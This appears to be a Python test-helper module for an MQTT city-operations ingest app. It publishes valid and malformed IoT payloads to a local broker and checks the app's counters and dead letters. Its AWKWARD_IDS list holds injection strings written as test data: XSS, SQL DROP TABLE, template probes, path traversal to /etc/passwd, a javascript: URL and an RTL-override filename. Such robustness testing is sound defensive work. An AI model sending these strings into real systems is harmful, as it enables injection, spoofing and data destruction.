@dataclass(frozen=True, slots=True)
class Sending:
    """Messages handed to a :class:`Publisher`, on their way to the broker."""

    publisher: Publisher
    before: int
    count: int

    def wait(self, timeout: float) -> int:
        """Wait until the broker has acknowledged them all; returns how many there were."""
        wait_for(
            lambda: self.publisher.acked - self.before >= self.count,
            timeout,
            f"the broker acknowledged all {self.count} messages",
            interval=0.01,
        )
        return self.count


def publish_once(port: int, topic: str, payload: bytes, timeout: float = 2.0) -> bool:
    """Publish one QoS 1 message on a client of its own that does not reconnect; True when
    the broker acknowledged it, False when it refused it (mosquitto drops the connection of
    a client that publishes to a topic it finds malformed)."""
    connected, dropped = threading.Event(), threading.Event()
    client = mqtt.Client(
        callback_api_version=CallbackAPIVersion.VERSION2, reconnect_on_failure=False
    )
    client.on_connect = lambda *_args: connected.set()
    client.on_disconnect = lambda *_args: dropped.set()
    client.connect("127.0.0.1", port)
    client.loop_start()
    try:
        assert connected.wait(timeout), "no CONNACK from the broker"
        info = client.publish(topic, payload, qos=1)
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                if info.is_published():
                    return True
            except (RuntimeError, ValueError):  # paho: no longer connected, not sent
                return False
            if dropped.is_set():
                return False
            time.sleep(0.005)
        return False
    finally:
        client.disconnect()
        client.loop_stop()


def redelivered(port: int, client_id: str, marker_topic: str, timeout: float = 10.0) -> list[str]:
    """Topics the broker still holds for the app's persistent session (unacknowledged or
    queued): reconnect as the app, publish a marker, and collect what arrives before it."""
    arrived: list[str] = []
    seen_marker = threading.Event()
    marker = f"marker-{time.monotonic_ns()}".encode()

    def on_message(_client: mqtt.Client, _userdata: Any, message: mqtt.MQTTMessage) -> None:
        if message.payload == marker:
            seen_marker.set()
        elif not seen_marker.is_set():
            arrived.append(message.topic)

    client = mqtt.Client(
        callback_api_version=CallbackAPIVersion.VERSION2, client_id=client_id, clean_session=False
    )
    client.on_message = on_message
    client.connect("127.0.0.1", port)
    client.loop_start()
    try:
        wait_for(client.is_connected, 10, "reconnected as the app")
        publisher = Publisher(port, client_id="abuse-marker")
        try:
            publisher.publish_all([(marker_topic, marker)])
        finally:
            publisher.close()
        assert seen_marker.wait(timeout), "the marker did not arrive on the app's session"
    finally:
        client.disconnect()
        client.loop_stop()
    return arrived


# -- what the app says it did ------------------------------------------------------------------


@dataclass
class Ledger:
    """What the app shows, read from its deltas as the window reads them: each feed's
    counters (messages decoded, errors = dead letters), the dead letters, entities and
    latest values."""

    pipeline: IngestPipeline
    health: dict[str, FeedHealth] = field(default_factory=dict)
    messages: int = 0
    dead_letters: dict[str, list[DeadLetter]] = field(default_factory=dict)
    entities: dict[str, Entity] = field(default_factory=dict)
    latest: dict[tuple[str, str], Reading] = field(default_factory=dict)
    alarm_ids: set[str] = field(default_factory=set)

    def drain(self) -> Ledger:
        delta = self.pipeline.take_delta()
        self.health.update(delta.feeds)
        self.messages += delta.messages
        for name, letters in delta.dead_letters.items():
            self.dead_letters.setdefault(name, []).extend(letters)
        self.entities.update(delta.entities)
        self.latest.update(delta.latest)
        self.alarm_ids.update(delta.alarms)
        return self

    def decoded(self, feed: str) -> int:
        health = self.health.get(feed)
        return 0 if health is None else health.messages

    def rejected(self, feed: str) -> int:
        health = self.health.get(feed)
        return 0 if health is None else health.errors

    def counts(self) -> dict[str, tuple[int, int]]:
        """(decoded, dead-lettered) per feed."""
        return {name: (self.decoded(name), self.rejected(name)) for name in sorted(self.health)}

    def accounted(self, feed: str) -> int:
        return self.decoded(feed) + self.rejected(feed)

    def wait_accounted(self, expected: dict[str, int], timeout: float = 90.0) -> None:
        """Wait until each feed's decoded + dead-lettered reaches ``expected``, then until
        nothing changes any more (so that an over-count shows too)."""
        self.wait_settled(
            lambda: all(self.accounted(f) >= n for f, n in expected.items()),
            f"every message accounted for: expected {expected}",
            timeout,
        )

    def wait_settled(self, reached: Callable[[], bool], what: str, timeout: float = 90.0) -> None:
        """Wait until ``reached()`` holds (deltas drained before each try), the worker is
        idle and the counters have not changed for a moment."""

        def drained_and_reached() -> bool:
            self.drain()
            return reached()

        try:
            wait_for(drained_and_reached, timeout, what, interval=0.05)
        except AssertionError as error:
            raise AssertionError(f"{error}; the app says {self.counts()}") from None
        assert self.pipeline.wait_idle(timeout), "the ingest worker is still busy"
        deadline = time.monotonic() + timeout
        quiet_since = time.monotonic()
        last = self.drain().counts()
        while time.monotonic() - quiet_since < 0.3 and time.monotonic() < deadline:
            time.sleep(0.05)
            current = self.drain().counts()
            if current != last:
                last, quiet_since = current, time.monotonic()


# -- good messages -----------------------------------------------------------------------------


def good_messages(tag: str, now: float) -> dict[str, tuple[str, bytes]]:
    """One plainly valid message per format (topic, payload), its entity named by ``tag``."""
    iso = datetime.fromtimestamp(now, UTC).isoformat(timespec="seconds").replace("+00:00", "Z")
    messages = {
        "json": (f"good/{tag}", {"id": f"good-{tag}", "ts": now, "pm25": 12.5}),
        "ngsi-v2": (
            f"good/{tag}",
            {
                "id": f"good-{tag}",
                "type": "AirQualityObserved",
                "pm25": {"type": "Number", "value": 12.5},
            },
        ),
        "ngsi-ld": (
            f"good/{tag}",
            {
                "id": f"urn:ngsi-ld:AirQualityObserved:good-{tag}",
                "type": "AirQualityObserved",
                "pm25": {"type": "Property", "value": 12.5, "observedAt": iso},
            },
        ),
        "sensorthings": (
            f"v1.1/Datastreams('good-{tag}')/Observations",
            {"result": 12.5, "phenomenonTime": iso},
        ),
        "senml": (f"good/{tag}", [{"bn": f"urn:dev:good-{tag}:", "n": "pm25", "v": 12.5}]),
        "owntracks": (
            f"owntracks/good/{tag}",
            {"_type": "location", "lat": 28.55, "lon": 112.35, "tst": int(now), "batt": 50},
        ),
    }
    out = {
        name: (f"{topic_root(name)}/{topic}", json.dumps(document).encode())
        for name, (topic, document) in messages.items()
    }
    out["cap"] = (f"{topic_root('cap')}/good/{tag}", cap_document(f"good-{tag}").encode())
    return out


def entity_ids(decoded: Decoded) -> set[str]:
    """Entities a decoded payload puts into the state hub."""
    return {update.id for update in decoded.entities}


# -- the app, a broker and a publisher ---------------------------------------------------------

CLIENT_ID = "cityops-abuse"
BROKER_SETTINGS = "max_inflight_messages 1000\nmax_queued_messages 1000000\n"
"""What the README asks of a deployment's broker for QoS 1 (and room for every message the
suite publishes while the app works through them)."""


class AbuseCity:
    """A real mosquitto on a free loopback port; the app's services (a CitySession with its
    offline cache in ``workdir``) subscribed to one QoS 1 feed per payload format on a
    persistent session; a QoS 1 publisher; the ledger of what the app shows."""

    def __init__(self, workdir: Path) -> None:
        broker_dir = workdir / "broker"
        broker_dir.mkdir(parents=True, exist_ok=True)
        self.broker = MosquittoBroker(broker_dir, BROKER_SETTINGS)
        self.broker.start()
        self.config = abuse_config(self.broker.url, CLIENT_ID)
        self.cache_dir = workdir / "cache"
        self.session: CitySession | None = None
        try:
            session = self.session = CitySession(self.config, self.cache_dir)
            self.pipeline = session.pipeline
            session.start()
            wait_for(
                lambda: all(client.connected for client in session.clients),
                15,
                "the app connected and subscribed",
            )
            self.publisher = Publisher(self.broker.port)
        except BaseException:
            if self.session is not None:
                self.stop_app()
            self.broker.stop()
            raise
        self.ledger = Ledger(self.pipeline)
        self._good = 0

    @property
    def port(self) -> int:
        return self.broker.port

    def takes_good_messages(self) -> None:
        """Publish one valid message per format; each must be decoded (the feed's counter
        grows by exactly one, no dead letter) and its entity reach the state hub."""
        self._good += 1
        now = time.time()
        messages = good_messages(f"{self._good}-{int(now)}", now)
        expected: dict[str, int] = {}
        entities: set[str] = set()
        self.ledger.drain()
        for format_name, (topic, payload) in messages.items():
            entities |= entity_ids(decode_as_app(format_name, topic, payload, now))
            expected[feed_name(format_name)] = self.ledger.accounted(feed_name(format_name)) + 1
        before = self.ledger.counts()
        self.publisher.publish_all(messages.values())
        self.ledger.wait_accounted(expected, timeout=30)
        for name in expected:
            was = before.get(name, (0, 0))
            assert self.ledger.counts()[name] == (was[0] + 1, was[1]), (
                f"feed {name}: the good message was not decoded "
                f"(before {was}, now {self.ledger.counts()[name]}; "
                f"dead letters: {self.ledger.dead_letters.get(name, [])[-1:]})"
            )
        missing = {key for key in entities if self.pipeline.hub.entity(key) is None}
        assert not missing, f"good messages' entities not in the state hub: {missing}"

    def stop_app(self) -> FlushReport:
        """Stop the app's services the way the window does on close (drain, store, ack)."""
        session, self.session = self.session, None
        assert session is not None, "already stopped"
        return session.stop()

    def close(self) -> None:
        if self.session is not None:
            self.stop_app()
        self.publisher.close()
        self.broker.stop()


# -- awkward ids and topics --------------------------------------------------------------------

AWKWARD_IDS: dict[str, str] = {
    "rtl-override": "\u202eexe.gnp",
    "rtl-isolates": "a\u2067b\u2069c\u200f",
    "zero-width": "st\u200bation\u200d-1\u2060",
    "bom": "\ufeffstation",
    "markup-script": "<script>alert(1)</script>",
    "markup-img": '"><img src=x onerror=alert(1)>',
    "markup-entities": "&lt;b&gt;&amp;&#60;",
    "template": "{{7*7}}${7*7}%s%n",
    "sql": "x'; DROP TABLE entities; --",
    "control-c0": "a\x01b\x1b[31mc",
    "control-nul": "nul\x00byte",
    "control-del-c1": "a\x7fb\x85c\x9b",
    "line-breaks": "a\nb\rc\u2028d",
    "tab": "a\tb",
    "emoji": "🚒🔥-1",
    "combining": "e\u0301\u0301\u0301",
    "noncharacters": "a\uffffb\U0010ffff",
    "whitespace-only": " \t ",
    "longest": "i" * 128,
    "too-long": "i" * 129,
    "lone-surrogate": "\ud800",
    "path": "../../etc/passwd",
    "url": "javascript:alert(1)",
}
"""Entity ids (and names, metric names) that a display or a store could mistake for
something else than text."""

AWKWARD_TOPIC_LEVELS: dict[str, str] = {
    key: value
    for key, value in AWKWARD_IDS.items()
    if key not in ("lone-surrogate", "whitespace-only") and not {"/", "+", "#"} & set(value)
} | {"spaces": "a b", "long": "é" * 200}
"""Last topic levels (the entity id of a ``json`` message without ``id``, and of an
OwnTracks message). Wildcards and lone surrogates cannot be published at all."""


def xml_text_of(text: str) -> str:
    """``text`` for an XML document: markup escaped; characters XML 1.0 cannot carry (C0
    controls, lone surrogates, U+FFFE/U+FFFF) as character references, which a conforming
    parser refuses."""
    out = []
    for ch in text:
        code = ord(ch)
        allowed = code in (0x9, 0xA, 0xD) or 0x20 <= code <= 0xD7FF or 0xE000 <= code <= 0xFFFD
        allowed = allowed or 0x10000 <= code <= 0x10FFFF
        out.append(xml_escape(ch) if allowed else f"&#x{code:X};")
    return "".join(out)


def awkward_payloads(label: str, text: str, now: float) -> list[tuple[str, str, bytes]]:
    """(format, topic, payload) carrying ``text`` as entity id, name and metric name in
    every format."""
    iso = datetime.fromtimestamp(now, UTC).isoformat(timespec="seconds").replace("+00:00", "Z")

    def dumped(document: object) -> bytes:
        return json.dumps(document).encode()  # ASCII with \\u escapes: any code point

    documents: list[tuple[str, str, object]] = [
        ("json", f"ids/{label}", {"id": text, "name": text, "type": text, "pm25": 1, text: 2}),
        (
            "ngsi-v2",
            f"ids/{label}",
            {
                "id": f"v2:{text}",
                "type": "Thing",
                "name": {"type": "Text", "value": text},
                "pm25": {"type": "Number", "value": 1},
                text: {"type": "Number", "value": 2},
            },
        ),
        (
            "ngsi-ld",
            f"ids/{label}",
            {
                "id": f"urn:ngsi-ld:Thing:{text}",
                "type": "Thing",
                "name": {"type": "Property", "value": text},
                "pm25": {"type": "Property", "value": 1},
                text: {"type": "Property", "value": 2},
            },
        ),
        (
            "senml",
            f"ids/{label}",
            [{"bn": f"urn:dev:{text}:", "n": "pm25", "v": 1}, {"n": text, "v": 2}],
        ),
        (
            "sensorthings",
            "ids/v1.1/Datastreams(1)/Observations",
            {
                "result": 1,
                "phenomenonTime": iso,
                "Datastream": {
                    "@iot.id": text,
                    "name": text,
                    "Thing": {"@iot.id": f"thing:{text}", "name": text},
                    "ObservedProperty": {"name": text},
                },
            },
        ),
        (
            "owntracks",
            f"owntracks/ids/{label}",
            {"_type": "location", "lat": 28.5, "lon": 112.3, "tst": int(now), "tid": text},
        ),
    ]
    out = [(name, f"{topic_root(name)}/{topic}", dumped(doc)) for name, topic, doc in documents]
    cap = cap_document(f"id-{label}", xml_text_of(text)).replace(
        "<sender>abuse@example.cn</sender>", f"<sender>{xml_text_of(text)}</sender>"
    )
    out.append(("cap", f"{topic_root('cap')}/ids/{label}", cap.encode()))
    return out


def topic_payloads(label: str, level: str, now: float) -> list[tuple[str, str, bytes]]:
    """(format, topic, payload) whose entity id is the topic's last level ``level``."""
    json_doc = {"ts": now, "pm25": 3}
    location = {"_type": "location", "lat": 28.5, "lon": 112.3, "tst": int(now)}
    return [
        ("json", f"{topic_root('json')}/topics/{level}", json.dumps(json_doc).encode()),
        ("owntracks", f"{topic_root('owntracks')}/{label}/{level}", json.dumps(location).encode()),
        (
            "senml",
            f"{topic_root('senml')}/topics/{level}",
            json.dumps([{"n": "pm25", "v": 4}]).encode(),
        ),
    ]


def expected_entities(accepted: Iterable[Decoded]) -> dict[str, tuple[str, str]]:
    """(name, type) per entity id after the state hub applied ``accepted`` in order."""
    entities: dict[str, tuple[str, str]] = {}
    for decoded in accepted:
        for update in decoded.entities:
            name, kind = entities.get(update.id, (update.name or update.id, ""))
            entities[update.id] = (
                name if update.name is None else update.name,
                kind if update.type is None else update.type,
            )
    return entities


def files_containing(folder: Path, needle: bytes) -> list[Path]:
    """Files under ``folder`` (the cache: database, WAL, journal) whose bytes hold ``needle``."""
    return [path for path in folder.rglob("*") if path.is_file() and needle in path.read_bytes()]


# -- the sharing pseudo-feed: operator actions and incidents of other workstations --------------

SHARING_ACCOUNT = "anonymous"
"""The topic level of the broker user on an anonymous broker."""
SHARING_WORKSTATION = "ws-abuse"


def shared_samples(now: float) -> list[Sample]:
    """Valid messages of the sharing protocol (topics below the ``[sharing]`` prefix): alarm
    actions of each kind, an alarm's retained operator state, an incident change."""
    alarm = "aq-01|pm25|high"

    def action(kind: str, **fields: Any) -> SharedAction:
        return SharedAction(
            id=f"{kind}-1",
            kind=kind,
            alarm=alarm,
            occurrence=now - 60,
            user="li.wei",
            workstation=SHARING_WORKSTATION,
            account=SHARING_ACCOUNT,
            role="operator",
            ts=now,
            **fields,
        )

    actions = [
        action("ack", note="seen"),
        action("shelve", note="maintenance", until=now + 600),
        action("unshelve"),
        action("comment", note="crew on site"),
        action("assign", assignee="zhang.min"),
    ]
    action_topic = f"actions/{SHARING_ACCOUNT}/{SHARING_WORKSTATION}"
    samples = [Sample(f"action:{a.kind}", action_topic, encode_action(a).encode()) for a in actions]
    state = SharedState(alarm, now - 60, ack=actions[0], comments=[actions[3]])
    samples.append(
        Sample("state", f"alarm-state/{quote(alarm, safe='')}", encode_state(state).encode())
    )
    incident = {
        "id": "change-1", "kind": "incident", "incident": "inc-1",
        "changes": [["incident_open", "Flooding on Taohualun Road"]],
        "title": "Flooding on Taohualun Road", "priority": 2, "status": "open", "owner": "",
        "opened_at": now - 30, "opened_by": "li.wei", "updated_at": now, "alarms": [alarm],
        "entities": ["aq-01"], "notes": 1, "revision": 1,
        "note": {"id": "note-1", "ts": now, "user": "li.wei", "workstation": SHARING_WORKSTATION,
                 "text": "crew sent"},
        "user": "li.wei", "workstation": SHARING_WORKSTATION, "account": SHARING_ACCOUNT,
        "role": "operator", "ts": now,
    }  # fmt: skip
    samples.append(Sample("incident", action_topic, json.dumps(incident).encode()))
    return samples


def shared_parse_refuses(topic: str, payload: bytes, prefix: str) -> bool:
    """Whether the sharing protocol's parsers refuse a message outright (any exception counts:
    the app must turn it into a dead letter). An empty payload (a retained state cleared) is
    not refused; what parses may still be refused later (roles, unknown alarm, ...)."""
    if not payload:
        return False
    try:
        if topic.startswith(f"{prefix}/alarm-state/"):
            decode_state(topic, payload, prefix)
        else:
            body = load_action_body(topic, payload, prefix)
            if body.get("kind") == "incident":
                decode_incident_payload(body)
            else:
                parse_action(body)
    except Exception:
        return True
    return False
